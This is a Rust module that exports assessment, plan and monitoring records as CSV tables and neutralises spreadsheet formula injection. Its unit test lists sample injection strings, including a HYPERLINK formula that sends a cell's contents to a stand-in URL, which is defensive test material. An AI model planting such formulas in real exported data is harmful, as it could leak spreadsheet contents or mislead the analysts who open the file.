//! Tables for analysts (Excel, Power BI, R): one row per assessment question,
//! per plan activity, per measurement and per training event. Built here once;
//! the server writes them as CSV ([`Table::to_csv`]) or XLSX.
//!
//! Codes (`enabling_environment`, `in_progress`) are written as stored, so a
//! table reads the same in every language and joins cleanly across exports.

use crate::assessment::Assessment;
use crate::monitoring::Monitoring;
use crate::plan::Plan;
use crate::vocabulary::{AgeGroup, Sex};

/// One cell: text, a number, or nothing.
#[derive(Debug, Clone, PartialEq)]
pub enum Cell {
    Text(String),
    Number(f64),
    Empty,
}

impl From<&str> for Cell {
    fn from(s: &str) -> Cell {
        Cell::Text(s.to_owned())
    }
}

impl From<String> for Cell {
    fn from(s: String) -> Cell {
        Cell::Text(s)
    }
}

impl From<f64> for Cell {
    fn from(n: f64) -> Cell {
        Cell::Number(n)
    }
}

impl<T: Into<Cell>> From<Option<T>> for Cell {
    fn from(v: Option<T>) -> Cell {
        v.map_or(Cell::Empty, Into::into)
    }
}

/// A code as stored (`in_progress`), or nothing.
fn code<T: serde::Serialize>(value: Option<T>) -> Cell {
    value.map_or(Cell::Empty, |v| Cell::Text(crate::vocabulary::code_of(&v)))
}

/// Which table.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    Assessments,
    Plans,
    Monitoring,
}

impl Kind {
    pub fn parse(name: &str) -> Option<Kind> {
        match name {
            "assessments" => Some(Kind::Assessments),
            "plans" => Some(Kind::Plans),
            "monitoring" => Some(Kind::Monitoring),
            _ => None,
        }
    }

    pub fn header(self) -> &'static [&'static str] {
        match self {
            Kind::Assessments => &[
                "workspace",
                "country",
                "assessment",
                "title",
                "template",
                "completed_on",
                "baseline",
                "section",
                "question",
                "question_text",
                "level",
                "core_issue",
                "functional_capacity",
                "existing",
                "desired",
                "gap",
                "confidence",
                "priority",
                "evidence",
            ],
            Kind::Plans => &[
                "workspace",
                "country",
                "plan",
                "plan_title",
                "outcome",
                "output",
                "activity",
                "activity_title",
                "type",
                "level",
                "core_issue",
                "status",
                "owner",
                "starts_on",
                "ends_on",
                "budget",
                "currency",
                "indicators",
            ],
            Kind::Monitoring => &[
                "workspace",
                "country",
                "monitoring",
                "plan",
                "record",
                "id",
                "activity_or_indicator",
                "date",
                "value",
                "source",
                "title",
                "location",
                "participants",
                "female",
                "male",
                "other_sex",
                "sex_not_recorded",
                "under_25",
                "25_to_39",
                "40_to_54",
                "55_and_over",
                "age_not_recorded",
                "reaction",
                "pre_test",
                "post_test",
            ],
        }
    }
}

/// The rows `kind` takes from one document of a workspace; `where_` is
/// `(workspace, country, document id)`.
pub fn rows(kind: Kind, where_: (&str, &str, &str), content: &crate::Content) -> Vec<Vec<Cell>> {
    let (ws, country, doc) = where_;
    let lead = || -> Vec<Cell> { vec![ws.into(), country.into(), doc.into()] };
    match (kind, content) {
        (Kind::Assessments, crate::Content::Assessment(a)) => assessment_rows(a, lead),
        (Kind::Plans, crate::Content::Plan(p)) => plan_rows(p, lead),
        (Kind::Monitoring, crate::Content::Monitoring(m)) => monitoring_rows(m, lead),
        _ => Vec::new(),
    }
}

fn assessment_rows(a: &Assessment, lead: impl Fn() -> Vec<Cell>) -> Vec<Vec<Cell>> {
    let Some(template) = &a.template else { return Vec::new() };
    template
        .questions()
        .map(|(section, q)| {
            let r = a.responses.get(&q.id);
            let existing = r.and_then(|r| r.existing);
            let desired = r.and_then(|r| r.desired);
            let mut row = lead();
            row.extend([
                a.title.as_str().into(),
                template.id.as_str().into(),
                a.completed_on.map(|d| d.to_string()).into(),
                a.baseline_id.clone().into(),
                section.id.as_str().into(),
                q.id.as_str().into(),
                q.text.as_str().into(),
                code(q.level),
                code(q.core_issue),
                code(q.functional_capacity),
                existing.map(|e| e as f64).into(),
                desired.map(|d| d as f64).into(),
                existing.zip(desired).map(|(e, d)| (d - e) as f64).into(),
                code(r.and_then(|r| r.confidence)),
                r.map(|r| f64::from(r.priority)).into(),
                r.map(|r| r.evidence.clone()).into(),
            ]);
            row
        })
        .collect()
}

fn plan_rows(p: &Plan, lead: impl Fn() -> Vec<Cell>) -> Vec<Vec<Cell>> {
    p.activities()
        .map(|(outcome, output, a)| {
            let indicators: Vec<String> = a
                .indicators
                .iter()
                .map(|i| format!("{}: {} → {} {}", i.name, i.baseline, i.target, i.unit).trim_end().to_owned())
                .collect();
            let mut row = lead();
            row.extend([
                p.title.as_str().into(),
                outcome.id.as_str().into(),
                output.id.as_str().into(),
                a.id.as_str().into(),
                a.title.as_str().into(),
                code(Some(a.activity_type)),
                code(a.level),
                code(a.core_issue),
                code(Some(a.status)),
                a.owner.as_str().into(),
                a.starts_on.map(|d| d.to_string()).into(),
                a.ends_on.map(|d| d.to_string()).into(),
                a.budget.into(),
                p.currency.as_str().into(),
                indicators.join("; ").into(),
            ]);
            row
        })
        .collect()
}

fn monitoring_rows(m: &Monitoring, lead: impl Fn() -> Vec<Cell>) -> Vec<Vec<Cell>> {
    let mut out = Vec::new();
    for x in &m.measurements {
        let mut row = lead();
        row.extend([
            m.plan_id.as_str().into(),
            "measurement".into(),
            x.id.as_str().into(),
            x.indicator_id.as_str().into(),
            x.date.map(|d| d.to_string()).into(),
            x.value.into(),
            x.source.as_str().into(),
        ]);
        row.resize(Kind::Monitoring.header().len(), Cell::Empty); // the training columns
        out.push(row);
    }
    for t in &m.trainings {
        let heads = t.headcount();
        let mut row = lead();
        row.extend([
            m.plan_id.as_str().into(),
            "training".into(),
            t.id.as_str().into(),
            t.activity_id.clone().into(),
            t.starts_on.map(|d| d.to_string()).into(),
            Cell::Empty,
            Cell::Empty,
            t.title.as_str().into(),
            t.location.as_str().into(),
            f64::from(heads.total).into(),
        ]);
        row.extend(Sex::ALL.iter().map(|&sex| Cell::from(f64::from(heads.of_sex(sex)))));
        row.extend(AgeGroup::ALL.iter().map(|&age| Cell::from(f64::from(heads.of_age(age)))));
        row.extend([t.kirkpatrick.reaction.into(), t.kirkpatrick.pre_test.into(), t.kirkpatrick.post_test.into()]);
        out.push(row);
    }
    out
}

/// RFC 4180 CSV: a header line, then one line per row; fields that hold a
/// comma, quote or line break are quoted.
pub fn to_csv(header: &[&str], rows: &[Vec<Cell>]) -> String {
    let mut out = csv_header(header);
    out.push_str(&csv_rows(rows));
    out
}

/// The header line of a CSV export.
pub fn csv_header(header: &[&str]) -> String {
    let mut out = String::new();
    csv_line(&mut out, header.iter().map(|h| (*h).to_owned()));
    out
}

/// Rows of a CSV export, each a line (an export is written a document at a
/// time). A text that a spreadsheet could run as a formula gets a leading
/// `'` (see [`formula_like`]), so a title typed on a device cannot become a
/// formula on an analyst's computer; numbers stay numbers.
pub fn csv_rows(rows: &[Vec<Cell>]) -> String {
    let mut out = String::new();
    for row in rows {
        csv_line(
            &mut out,
            row.iter().map(|c| match c {
                Cell::Text(s) if formula_like(s) => format!("'{s}"),
                Cell::Text(s) => s.clone(),
                Cell::Number(n) => n.to_string(),
                Cell::Empty => String::new(),
            }),
        );
    }
    out
}

/// Whether a spreadsheet could read `text` as a formula: it begins, after
/// any spaces and line breaks, with `=`, `+`, `-` or `@` (or their
/// full-width forms), or with a tab or a line break.
fn formula_like(text: &str) -> bool {
    text.starts_with(['\t', '\r', '\n'])
        || text.trim_start().starts_with(['=', '+', '-', '@', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}'])
}

fn csv_line(out: &mut String, cells: impl Iterator<Item = String>) {
    let fields: Vec<String> = cells
        .map(|f| if f.contains([',', '"', '\n', '\r']) { format!("\"{}\"", f.replace('"', "\"\"")) } else { f })
        .collect();
    out.push_str(&fields.join(","));
    out.push_str("\r\n");
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_never_carries_a_formula() {
        let rows = vec![vec![
            Cell::from("=HYPERLINK(\"http://x\"&C2,\"Click\")"),
            Cell::from("@SUM(A1)"),
            Cell::from("-2+3"),
            Cell::from("+1"),
            Cell::Number(-2.0),
            Cell::from("Plan = budget"),
            Cell::from("\n=cmd"),
            Cell::from(" =1+1"),
            Cell::from("\u{FF1D}1+1"),
        ]];
        assert_eq!(
            csv_rows(&rows),
            "\"'=HYPERLINK(\"\"http://x\"\"&C2,\"\"Click\"\")\",'@SUM(A1),'-2+3,'+1,-2,Plan = budget,\"'\n=cmd\",' =1+1,'\u{FF1D}1+1\r\n"
        );
    }

    #[test]
    fn csv_quotes_what_needs_quoting() {
        let rows = vec![vec![Cell::from("a, b"), Cell::from("say \"hi\""), Cell::Number(2.5), Cell::Empty]];
        assert_eq!(to_csv(&["x", "y", "z", "w"], &rows), "x,y,z,w\r\n\"a, b\",\"say \"\"hi\"\"\",2.5,\r\n");
    }

    #[test]
    fn every_row_is_as_wide_as_its_header() {
        let mut m = Monitoring { plan_id: "p".into(), ..Monitoring::default() };
        m.measurements.push(crate::monitoring::Measurement { id: "m".into(), ..Default::default() });
        m.trainings.push(crate::monitoring::Training { id: "t".into(), ..Default::default() });
        let rows = rows(Kind::Monitoring, ("w", "c", "d"), &crate::Content::Monitoring(m));
        assert_eq!(rows.len(), 2);
        assert!(rows.iter().all(|r| r.len() == Kind::Monitoring.header().len()), "{rows:?}");
    }
}
